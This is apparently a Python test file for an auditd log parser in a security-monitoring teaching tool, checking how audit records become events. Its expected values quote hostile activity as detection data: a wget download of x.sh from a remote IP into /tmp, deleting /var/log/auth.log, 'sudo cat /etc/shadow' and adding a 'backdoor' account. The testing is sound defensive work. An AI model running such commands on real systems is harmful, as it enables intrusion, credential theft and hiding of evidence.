from __future__ import annotations

from collectors.auditd import MAX_OPEN, Auditd, AuditGroups, interpret
from collectors.auditd_records import parse_record, socket_address
from collectors.lines import Line
from soc_core.model.event import Event, extra_values
from tests.collectors.base import GOLDEN, TextCollectorTests, read_all


class TestAuditd(TextCollectorTests):
    name = "auditd"
    samples = ("auditd.log",)


def events_of(action: str) -> list[Event]:
    events, _, _ = read_all(Auditd(), (GOLDEN / "auditd.log").read_bytes())
    return [event for event in events if event["event.action"] == action]


def test_records_of_one_event_are_joined_although_others_lie_between() -> None:
    (event,) = events_of("process_started")
    assert event["edusoc.auditd.types"] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]
    assert event["process.executable"] == "/usr/bin/wget"
    assert event["process.args"] == ["wget", "-O", "/tmp/a b", "http://198.51.100.7/x.sh"]
    assert event["process.command_line"] == "wget -O /tmp/a b http://198.51.100.7/x.sh"
    assert (event["process.pid"], event["process.parent.pid"]) == (2110, 2101)
    assert (event["user.name"], event["edusoc.auditd.login_name"]) == ("teacher", "teacher")
    assert event["process.working_directory"] == "/home/teacher"
    assert (event["event.category"], event["event.type"], event["event.outcome"]) == (
        ["process"],
        ["start"],
        "success",
    )
    # SigmaHQ's rules ask for the arguments, not for the addresses of them that the system call had.
    assert extra_values(event, "auditd.log.a1") == ["-O"]
    assert event["edusoc.auditd.syscall"] == "execve"
    assert event["edusoc.auditd.keys"] == ["exec"]


def test_the_deleted_file_is_named_with_its_folder() -> None:
    (event,) = events_of("file_deleted")
    assert event["file.path"] == "/var/log/auth.log"
    assert event["event.outcome"] == "failure"
    assert event["process.command_line"] == "rm auth.log"


def test_log_ins_sudo_and_accounts() -> None:
    good, bad = events_of("user_login")
    assert (good["source.ip"], good["event.outcome"], good["event.category"]) == (
        "203.0.113.9",
        "success",
        ["authentication"],
    )
    assert (bad["user.name"], bad["event.outcome"]) == ("(unknown user)", "failure")
    (sudo,) = events_of("sudo")
    assert sudo["process.command_line"] == "cat /etc/shadow"
    (added,) = events_of("user_added")
    assert (added["user.target.name"], added["user.target.id"]) == ("backdoor", "1001")


def test_a_connection_of_another_architecture_has_its_far_side() -> None:
    (event,) = events_of("connected_to")
    assert (event["destination.ip"], event["destination.port"]) == ("198.51.100.7", 443)
    assert event["edusoc.auditd.keys"] == ["net", "out"]


def test_socket_addresses() -> None:
    assert socket_address("0A0001BB00000000" + "20010DB8" + "00" * 11 + "01" + "00000000") == (
        "2001:db8::1",
        443,
        "",
    )
    assert socket_address("01002F72756E2F78" + "00" * 4) == ("", None, "/run/x")
    assert socket_address("02") == ("", None, "")
    assert socket_address("xyz") == ("", None, "")


def test_the_position_never_passes_an_open_event() -> None:
    groups = AuditGroups()
    lines = (GOLDEN / "auditd.log").read_bytes().split(b"\n")
    offset, held = 0, []
    for number, raw in enumerate(lines[3:14], start=1):
        list(groups.parse(Line(offset, number, raw)))
        held.append(groups.held())
        offset += len(raw) + 1
    start_of_second = len(lines[3]) + 1
    assert held[:9] == [0] * 9
    assert held[9:] == [start_of_second, None]


def test_open_events_are_bounded() -> None:
    groups = AuditGroups()
    found = 0
    for number in range(10 * MAX_OPEN):
        raw = (
            f"type=SYSCALL msg=audit(1795521603.200:{number}): arch=c000003e syscall=59 success=yes".encode()
        )
        found += len(list(groups.parse(Line(number * 100, number, raw))))
    assert found == 9 * MAX_OPEN
    assert len(list(groups.rest())) == MAX_OPEN


def test_what_was_cut_off_is_given_up_after_two_seconds() -> None:
    groups = AuditGroups()
    first = b"type=SYSCALL msg=audit(1795521603.200:1): arch=c000003e syscall=59 success=yes pid=1"
    later = b"type=TTY msg=audit(1795521605.200:2): tty pid=2"
    assert list(groups.parse(Line(0, 1, first))) == []
    (group,) = groups.parse(Line(90, 2, later))
    assert group.first.position == 0
    assert group.events[0]["process.pid"] == 1


def test_long_arguments_in_pieces_are_put_together() -> None:
    record = parse_record(
        'type=EXECVE msg=audit(1.2:3): argc=2 a0="sh" a1_len=8 a1[0]=61626364 a1[1]=65666768'
    )
    assert record is not None
    assert record.arguments == {0: "sh", 1: "abcdefgh"}


def test_a_syslog_message_of_the_audit_system_is_understood() -> None:
    event: Event = {"process.name": "audispd"}
    message = (
        "node=web1 type=USER_LOGIN msg=audit(1795521602.100:102): pid=1 uid=0 "
        "msg='op=login acct=\"a\" addr=203.0.113.9 res=failed'"
    )
    assert interpret(event, message)
    assert (event["event.dataset"], event["host.name"], event["event.outcome"]) == (
        "auditd.log",
        "web1",
        "failure",
    )
    kernel: Event = {}
    assert interpret(
        kernel, 'audit: type=1400 audit(1795521602.100:103): apparmor="DENIED" operation="open" comm="x"'
    )
    assert kernel["edusoc.auditd.types"] == ["AVC"]
    assert not interpret({}, "usb 1-1: new device")
